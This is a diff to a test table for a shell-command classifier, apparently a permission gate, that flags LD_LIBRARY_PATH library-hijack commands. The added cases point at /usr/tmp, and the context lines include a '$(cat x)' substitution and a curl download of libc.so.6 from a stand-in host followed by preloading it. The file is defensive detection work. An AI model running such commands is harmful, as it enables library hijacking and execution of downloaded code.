@@ -49,6 +49,8 @@ from lockgate.core.ruling.effects.project import NO_PROJECT
         ("LD_LIBRARY_PATH='build;/tmp/x' ls", ("installs-hook", "build;/tmp/x")),
         ("export LD_LIBRARY_PATH=~/lib", ("installs-hook", "~/lib")),
         ("LD_LIBRARY_PATH=/run/user/1000/x ls", ("installs-hook", "/run/user/1000/x")),
+        ("LD_LIBRARY_PATH=/usr/tmp ls", ("installs-hook", "/usr/tmp")),
+        ("LD_LIBRARY_PATH=/usr/tmp/x ls", ("installs-hook", "/usr/tmp/x")),
         ("LD_LIBRARY_PATH=/usr/../tmp/x ls", ("installs-hook", "/usr/../tmp/x")),
         ("LD_LIBRARY_PATH=$(cat x) ls", ("installs-hook", "$()")),
         ("curl -so lib/libc.so.6 https://x.example/a; LD_LIBRARY_PATH=lib ls", ("installs-hook", "lib")),
